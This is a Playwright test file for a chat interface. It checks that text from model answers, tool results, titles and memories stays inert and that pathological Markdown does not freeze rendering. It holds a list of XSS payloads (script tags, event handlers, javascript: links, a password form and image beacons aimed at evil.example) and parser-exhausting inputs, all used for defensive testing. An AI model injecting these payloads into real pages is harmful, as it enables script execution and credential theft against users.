"""Text that would like to be more than text, from users, models and tools."""

import json

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Open
from tests.browser.visit import Visit
from tests.standins.model import StandinModel

RUN = "window.executed=1"
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "handler": f'<img src="data:," onerror="{RUN}"><svg onload="{RUN}"></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "link": f'[press](javascript:{RUN}) <a href="javascript:{RUN}">press</a>',
    "image": "![](https://evil.example/markdown.png) <img src='https://evil.example/html.png'>",
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "style": '<style>body { display: none }</style><p style="position: fixed">over everything</p>',
    "elsewhere": '<base href="https://evil.example"><meta http-equiv="refresh" content="0; /away">',
}
MARKUP = "script, img, svg, iframe, form, input, style, base, meta, [style], [onerror], [onload]"
# What takes a Markdown parser, or the layout, more time or depth than there is.
ENDLESS = {
    "quotes": ">" * 2500,
    "quotes with spaces": "> " * 13_000,
    "quoted lines": "> a\n" * 6500,
    "lists in lists": "- " * 3000,
    "lists in quotes": "1. > " * 3000,
    "indented lists": "\n".join("  " * depth + "- a" for depth in range(200)),
    "emphasis in emphasis": "*a " * 4400 + "b* " * 4400,
    "strong emphasis": "**a *b " * 1900 + "c* d** " * 1900,
    "open emphasis": "__a_" * 6500,
    "paragraphs of emphasis": ("*a " * 45 + "b* " * 45 + "\n\n") * 100,
    "brackets": "[" * 26_000,
    "links": "[a](<" * 5000,
    "backticks": " ".join("`" * length for length in range(1, 230)),
    "addresses": "a.a_" * 6500,
    "cells": "|" + "a|" * 6500 + "\n|" + "-|" * 6500,
    "rows": "|a|b|\n|-|-|\n" + "|a|b|\n" * 4000,
    "tags": "<div>" * 5000,
    "paragraphs": "a\n\n" * 4000,
    "a long line": "x" * 300_000,
    "a long text": "Some words. " * 50_000,
}
FRAME = 1000  # milliseconds: on a busy machine, and still a sixth of what it was
WATCH = """
    window.longest = 0;
    new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries()) {
            window.longest = Math.max(window.longest, duration);
        }
    }).observe({ type: "longtask" });
"""
LONG = pytest.mark.long
hostile = pytest.mark.parametrize("kind", HOSTILE)
# Where the page never shows Markdown.
of_some_kinds = pytest.mark.parametrize(
    "kind",
    [pytest.param(kind, marks=() if kind in ("script", "handler") else LONG) for kind in HOSTILE],
)


def assert_harmless(here: Visit, place: str = "#conversation, #sidebar nav, dialog ul") -> None:
    for link in here.page.locator("#conversation a", has_text="press").all():
        link.click()
    here.page.wait_for_timeout(100)  # what a handler does, it does later
    assert here.page.evaluate("window.executed") is None
    assert marked_up(here.page, place) == []


def marked_up(page: Page, place: str) -> list[str]:
    """Return the elements in `place` that only hostile text could have made."""
    inside = ", ".join(f":is({place}) {one}" for one in MARKUP.split(", "))
    found: list[str] = page.evaluate(
        "(query) => [...document.querySelectorAll(query)].map((e) => e.outerHTML)", inside
    )
    return found


@hostile
def test_hostile_text_in_an_answer_runs_and_requests_nothing(visit: Open, kind: str) -> None:
    here = visit()
    answer = here.say(f"Hello\n\n{HOSTILE[kind]}\n\nBye")  # which the stand-in repeats
    expect(answer).to_contain_text("Bye")
    assert_harmless(here)
    here.page.reload()
    expect(here.answers).to_contain_text("Bye")
    assert_harmless(here)


@of_some_kinds
def test_hostile_text_from_a_tool_stays_text(visit: Open, kind: str) -> None:
    here = visit()
    arguments = json.dumps({"timezone": HOSTILE[kind]})
    here.say(f"/call get_current_time {arguments}")
    here.messages.locator("summary").click()
    for part in ("Arguments", "Result"):
        expect(here.messages.get_by_label(part)).to_contain_text(HOSTILE[kind][:8])
    assert_harmless(here)


@of_some_kinds
def test_hostile_text_in_a_title_stays_text(visit: Open, kind: str) -> None:
    here = visit()
    here.say("hello")
    here.button("Rename").click()
    here.dialog.get_by_role("textbox").fill(title := HOSTILE[kind][:80])
    here.dialog.get_by_role("button", name="Save").click()
    expect(here.chats).to_have_text([title])
    expect(here.page.get_by_role("heading", level=1)).to_have_text(title)
    assert_harmless(here, "#sidebar nav, h1")


@of_some_kinds
def test_hostile_text_in_a_memory_stays_text(visit: Open, kind: str) -> None:
    here = visit()
    here.say(f"Remember that {HOSTILE[kind]}")
    here.button("What I remember about you").click()
    expect(here.dialog.get_by_role("listitem")).to_have_text([HOSTILE[kind]])
    assert_harmless(here)


def test_a_link_opens_a_window_that_cannot_reach_this_one(visit: Open) -> None:
    answer = visit().say("See [this](https://example.com/there)")
    link = answer.get_by_role("link", name="this")
    expect(link).to_have_attribute("href", "https://example.com/there")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")


def test_the_browser_refuses_markup_that_was_not_sanitised(visit: Open) -> None:
    here = visit()
    refused = here.page.evaluate(
        "() => { try { document.body.innerHTML = '<p>'; } catch (error) { return error.name; } }"
    )
    assert refused == "TypeError"
    assert here.problems.pop().startswith("error: This document requires 'TrustedHTML'")


@pytest.mark.parametrize(
    "kind",
    [pytest.param(kind, marks=LONG if number % 2 else ()) for number, kind in enumerate(ENDLESS)],
)
def test_text_that_would_take_too_long_to_lay_out_is_there_and_holds_nothing_up(
    visit: Open, model: StandinModel, kind: str
) -> None:
    text = f"{ENDLESS[kind]}\n\nThe end."
    model.pieces = [text[start : start + 1000] for start in range(0, len(text), 1000)]
    here = visit()
    here.page.add_init_script(WATCH)
    here.page.reload()
    expect(here.say("hello")).to_contain_text("The end.")
    assert here.page.evaluate("window.longest") < FRAME
    here.page.reload()
    expect(here.answers).to_contain_text("The end.")
    assert here.page.evaluate("window.longest") < FRAME


def test_a_long_answer_is_still_formatted(visit: Open, model: StandinModel) -> None:
    model.pieces = ["# Title\n\n", "Some **words**.\n\n" * 2000, "```\ncode\n```\n\nThe *end*."]
    answer = visit().say("hello")
    expect(answer.locator("strong")).to_have_count(2000)
    expect(answer.locator("pre")).to_have_text("code")
    expect(answer.locator("h1, em")).to_have_text(["Title", "end"])
